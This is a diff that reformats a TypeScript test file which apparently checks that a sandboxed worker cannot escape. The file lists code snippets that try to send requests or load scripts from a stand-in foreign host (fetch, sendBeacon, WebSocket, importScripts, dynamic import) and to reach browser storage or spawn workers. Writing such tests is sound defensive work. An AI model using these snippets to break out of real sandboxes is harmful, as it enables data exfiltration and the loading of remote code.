@@ -38,14 +38,29 @@ function kernelPath(): string {
 
 const requests: [way: string, code: string][] = [
   ["fetch", 'await fetch("http://FOREIGN/fetch", { mode: "no-cors" }); escape = "out";'],
-  ["fetch that outlives the page", 'await fetch("http://FOREIGN/keepalive", { keepalive: true, method: "POST", body: "x" }); escape = "out";'],
-  ["XMLHttpRequest", 'const request = new XMLHttpRequest(); request.open("GET", "http://FOREIGN/xhr", false); request.send(); escape = "out";'],
-  ["WebSocket", 'await new Promise((resolve, reject) => { const socket = new WebSocket("ws://FOREIGN/socket"); socket.onerror = reject; socket.onopen = resolve; }); escape = "out";'],
-  ["EventSource", 'await new Promise((resolve, reject) => { const source = new EventSource("http://FOREIGN/events"); source.onerror = reject; source.onopen = resolve; }); escape = "out";'],
+  [
+    "fetch that outlives the page",
+    'await fetch("http://FOREIGN/keepalive", { keepalive: true, method: "POST", body: "x" }); escape = "out";',
+  ],
+  [
+    "XMLHttpRequest",
+    'const request = new XMLHttpRequest(); request.open("GET", "http://FOREIGN/xhr", false); request.send(); escape = "out";',
+  ],
+  [
+    "WebSocket",
+    'await new Promise((resolve, reject) => { const socket = new WebSocket("ws://FOREIGN/socket"); socket.onerror = reject; socket.onopen = resolve; }); escape = "out";',
+  ],
+  [
+    "EventSource",
+    'await new Promise((resolve, reject) => { const source = new EventSource("http://FOREIGN/events"); source.onerror = reject; source.onopen = resolve; }); escape = "out";',
+  ],
   ["WebTransport", 'await new WebTransport("https://FOREIGN/transport").ready; escape = "out";'],
   ["WebSocketStream", 'await new (self as any).WebSocketStream("ws://FOREIGN/stream").opened; escape = "out";'],
   ["FontFace", 'await new FontFace("f", "url(http://FOREIGN/font.woff2)").load(); escape = "out";'],
-  ["a filter of a canvas", 'const canvas = new OffscreenCanvas(4, 4).getContext("2d")!; canvas.filter = "url(http://FOREIGN/filter.svg#f)"; canvas.fillRect(0, 0, 4, 4); canvas.getImageData(0, 0, 1, 1);'],
+  [
+    "a filter of a canvas",
+    'const canvas = new OffscreenCanvas(4, 4).getContext("2d")!; canvas.filter = "url(http://FOREIGN/filter.svg#f)"; canvas.fillRect(0, 0, 4, 4); canvas.getImageData(0, 0, 1, 1);',
+  ],
   ["sendBeacon", '(navigator as any).sendBeacon("http://FOREIGN/beacon"); escape = "out";'],
   ["importScripts", '(self as any).importScripts("http://FOREIGN/scripts.js"); escape = "out";'],
   ["a notification's icon", 'new Notification("x", { icon: "http://FOREIGN/icon.png" }); escape = "out";'],
@@ -63,7 +78,10 @@ test.each(requests)("no request leaves the site by %s", async (_, code) => {
 const imports: [way: string, code: string][] = [
   ["import", 'await import("http://FOREIGN/import.js")'],
   ["import of a data address", 'await import("data:text/javascript,export default 1")'],
-  ["import of a blob that imports", 'await import(URL.createObjectURL(new Blob([`import "http://FOREIGN/blob.js"`], { type: "text/javascript" })))'],
+  [
+    "import of a blob that imports",
+    'await import(URL.createObjectURL(new Blob([`import "http://FOREIGN/blob.js"`], { type: "text/javascript" })))',
+  ],
   ["import of a style sheet", 'await import("http://FOREIGN/style.css", { with: { type: "css" } })'],
   ["import of data", 'await import("http://FOREIGN/data.json", { with: { type: "json" } })'],
 ];
@@ -87,18 +105,26 @@ test.each(imports)("the policy alone refuses %s, in a blob worker like the kerne
 const nested: [way: string, code: string][] = [
   ["a worker", 'new Worker(KERNEL, { type: "module" }); escape = "out";'],
   ["a shared worker", 'new SharedWorker(KERNEL, { type: "module" }); escape = "out";'],
-  ["a worker found on the prototypes", "for (let o = globalThis; o; o = Object.getPrototypeOf(o)) if (Object.getOwnPropertyNames(o).some((n) => /Worker$/.test(n) && n !== 'ServiceWorker')) escape = Object.getOwnPropertyNames(o).join();"],
+  [
+    "a worker found on the prototypes",
+    "for (let o = globalThis; o; o = Object.getPrototypeOf(o)) if (Object.getOwnPropertyNames(o).some((n) => /Worker$/.test(n) && n !== 'ServiceWorker')) escape = Object.getOwnPropertyNames(o).join();",
+  ],
 ];
 
 test.each(nested)("no other context is reached by %s", async (_, code) => {
-  expect(await attempt(code.replaceAll("KERNEL", JSON.stringify(new URL(kernelPath(), harness.address))))).toBe("refused");
+  expect(await attempt(code.replaceAll("KERNEL", JSON.stringify(new URL(kernelPath(), harness.address))))).toBe(
+    "refused",
+  );
   expect(harness.visitors).toEqual([]);
 });
 
 describe("what the reader keeps is out of reach", () => {
   const stores: [what: string, code: string][] = [
     ["indexedDB", "indexedDB.open('x'); escape = 'out';"],
-    ["indexedDB by its prototype", "escape = (Object.getOwnPropertyDescriptor((self as any).WorkerGlobalScope.prototype, 'indexedDB')?.get?.call(self) ?? null) ? 'out' : 'refused';"],
+    [
+      "indexedDB by its prototype",
+      "escape = (Object.getOwnPropertyDescriptor((self as any).WorkerGlobalScope.prototype, 'indexedDB')?.get?.call(self) ?? null) ? 'out' : 'refused';",
+    ],
     ["caches", "await caches.open('x'); escape = 'out';"],
     ["navigator.storage", "await navigator.storage.getDirectory(); escape = 'out';"],
     ["storage buckets", "await (navigator as any).storageBuckets.open('x'); escape = 'out';"],
@@ -118,7 +144,8 @@ describe("what the reader keeps is out of reach", () => {
       for (let o: object | null = globalThis; o; o = Object.getPrototypeOf(o)) yield* Object.getOwnPropertyNames(o);
     })())].filter((name) => /worker|cache|storage|database|channel|filesystem|notification|broadcast/i.test(name)).sort().join(" ");`);
     // Interfaces without an instance, and the channels within a worker, lead nowhere.
-    const harmless = /^(Cache|CacheStorage|IDBDatabase|MessageChannel|StorageManager|StorageBucket|StorageBucketManager|DedicatedWorkerGlobalScope|WorkerGlobalScope|WorkerLocation|WorkerNavigator|ServiceWorkerRegistration|FileSystem\w*|RTC\w*|WebTransport\w*)$/;
+    const harmless =
+      /^(Cache|CacheStorage|IDBDatabase|MessageChannel|StorageManager|StorageBucket|StorageBucketManager|DedicatedWorkerGlobalScope|WorkerGlobalScope|WorkerLocation|WorkerNavigator|ServiceWorkerRegistration|FileSystem\w*|RTC\w*|WebTransport\w*)$/;
     expect(left.split(" ").filter((name) => !harmless.test(name))).toEqual([]);
   });
 });
